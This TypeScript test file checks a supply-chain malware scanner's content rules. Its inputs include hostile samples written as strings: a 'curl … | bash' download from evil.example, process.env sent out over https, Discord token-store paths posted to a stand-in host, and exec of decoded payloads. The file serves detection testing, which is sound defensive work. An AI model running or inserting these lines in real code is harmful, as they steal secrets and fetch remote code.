import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyseText } from '../../../../src/scanners/supply-chain/content/analyse-text.js';
import { CONTENT_RULES } from '../../../../src/scanners/supply-chain/content/analyse.js';
import { EXCERPT_LENGTH, excerptAt } from '../../../../src/scanners/supply-chain/content/excerpt.js';
import { INDICATORS } from '../../../../src/scanners/supply-chain/content/indicators.js';
import { maskComments } from '../../../../src/scanners/supply-chain/content/mask-comments.js';
import { findObfuscation } from '../../../../src/scanners/supply-chain/content/obfuscation.js';
import { CONTENT_RULE_IDS } from '../../../../src/scanners/supply-chain/content/rule-ids.js';

function rulesIn(text: string, language: 'javascript' | 'python' | 'shell', placement: 'install' | 'runtime' = 'install'): string[] {
  return analyseText(text, language, placement, 'f').map((issue) => `${issue.rule}/${issue.severity}`);
}

describe('content rules', () => {
  it('has unique ids', () => {
    assert.equal(new Set(CONTENT_RULE_IDS).size, CONTENT_RULES.length);
  });

  it('uses only known indicators', () => {
    const known = new Set<string>([...INDICATORS.map((record) => record.id), 'hex-identifiers', 'escape-run', 'char-code-chain', 'long-literal', 'native-binary', 'executable-binary', 'disguised-binary', 'unsafe-path', 'runs-file']);
    for (const rule of CONTENT_RULES) {
      for (const id of [...rule.requires, ...(rule.anyOf ?? [])]) assert.ok(known.has(id), `${rule.id} uses ${id}`);
      for (const id of rule.replaces ?? []) assert.ok(CONTENT_RULE_IDS.includes(id), `${rule.id} replaces ${id}`);
    }
  });

  it('masks comments keeping offsets', () => {
    const source = "a = 1; // require('https')\nb = '//not'; /* x\ny */ c = /\\/*/;";
    const masked = maskComments(source, 'javascript');
    assert.equal(masked.length, source.length);
    assert.equal(masked, "a = 1;                    \nb = '//not';     \n     c = /\\/*/;");
    assert.equal(maskComments("x = '#no' # yes\n", 'python'), "x = '#no'      \n");
  });

  it('ignores re.compile and exec of files', () => {
    assert.deepEqual(rulesIn("import re, base64\np = re.compile(base64.b64decode('eA=='))\nexec(open('v.py').read())\n", 'python'), []);
  });

  it('finds python exec of decoded data', () => {
    assert.deepEqual(rulesIn("import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'eJw=')))\n", 'python', 'runtime'), ['eval-decoded/high']);
    assert.deepEqual(rulesIn("import marshal\ncode = marshal.loads(data)\nexec(code)\n", 'python', 'runtime'), ['eval-decoded/high']);
  });

  it('finds escaped strings', () => {
    const escaped = [...'require("child_process")'].map((char) => `\\x${char.charCodeAt(0).toString(16)}`).join('');
    assert.deepEqual(rulesIn(`var s = "${escaped}";`, 'javascript', 'runtime'), ['escaped-strings/medium']);
    assert.deepEqual(rulesIn('var ranges = /[\\u0041-\\u005a\\u0061-\\u007a\\u00c0-\\u00d6\\u00d8-\\u00f6]/;', 'javascript', 'runtime'), []);
  });

  it('finds character code chains', () => {
    const codes = [...'https://evil.example'].map((char) => char.charCodeAt(0)).join(',');
    assert.deepEqual(rulesIn(`var u = String.fromCharCode(${codes});`, 'javascript', 'install'), ['char-code-chain/high']);
    assert.deepEqual(rulesIn('var c = String.fromCharCode(0xD800 + (cp >> 10), 0xDC00 + (cp & 1023));', 'javascript', 'install'), []);
    const chained = [...'__import__'].map((char) => `chr(${char.charCodeAt(0)})`).join('+') + '+chr(40)+chr(41)';
    assert.deepEqual(rulesIn(`x = ${chained}\n`, 'python', 'runtime'), ['char-code-chain/medium']);
  });

  it('finds long encoded literals', () => {
    const literal = 'QUJD'.repeat(3000);
    assert.deepEqual(findObfuscation(`const wasm = "${literal}";`).map((hit) => hit.id), ['long-literal']);
    assert.deepEqual(rulesIn(`const wasm = "${literal}";`, 'javascript', 'runtime'), []);
    assert.deepEqual(rulesIn(`const w = "${literal}";\neval(Buffer.from(w, 'base64').toString());`, 'javascript', 'install'), ['eval-decoded/critical', 'packed-payload/critical']);
  });

  it('finds environment exfiltration', () => {
    assert.deepEqual(rulesIn("const h = require('node:https');\nh.request(opts).end(JSON.stringify(process.env));\n", 'javascript', 'install'), ['env-exfiltration/critical']);
    assert.deepEqual(rulesIn("spawn('x', { env: { ...process.env, A: '1' } });\nconst v = process.env.HOME;\n", 'javascript', 'install'), []);
  });

  it('finds stealer paths at run time', () => {
    const source = "const fetch = require('node-fetch');\nconst p = home + '/AppData/Roaming/discordcanary/Local Storage/leveldb';\nfetch('https://x.example', { body: read(p) });\n";
    assert.deepEqual(rulesIn(source, 'javascript', 'runtime'), ['stealer-exfiltration/critical']);
  });

  it('finds shell downloads', () => {
    assert.deepEqual(rulesIn('#!/bin/sh\ncurl -s https://evil.example/a | bash\n', 'shell'), ['download-to-shell/critical']);
    assert.deepEqual(rulesIn('#!/bin/sh\n# curl -s https://evil.example/a | bash\nmake\n', 'shell'), []);
    assert.deepEqual(rulesIn('test -f a || node build.js\n', 'shell'), []);
  });

  it('ignores private IP literals', () => {
    assert.deepEqual(rulesIn("const u = 'http://127.0.0.1:8080/';\nconst m = 'http://169.254.169.254/latest';\n", 'javascript', 'install'), []);
    assert.deepEqual(rulesIn("const u = 'http://45.9.148.10/x';\n", 'javascript', 'install'), ['exfil-host/high']);
  });

  it('cuts excerpts to one line', () => {
    const line = `${'a'.repeat(500)}eval(x)${'b'.repeat(500)}\nnext`;
    const excerpt = excerptAt(line, 500, 4);
    assert.ok(excerpt.length <= EXCERPT_LENGTH + 2, `${excerpt.length}`);
    assert.ok(excerpt.includes('eval(x)'));
    assert.ok(excerpt.startsWith('…'), excerpt);
    assert.ok(excerpt.endsWith('…'), excerpt);
    // rampart:ignore reason="made-up key that the excerpt must mask"
    assert.equal(excerptAt("key = 'AKIAZZZZZZZZZZZZZZZZ1234abcd'\u202e", 0, 3), "key = 'AKIA****'");
  });
});
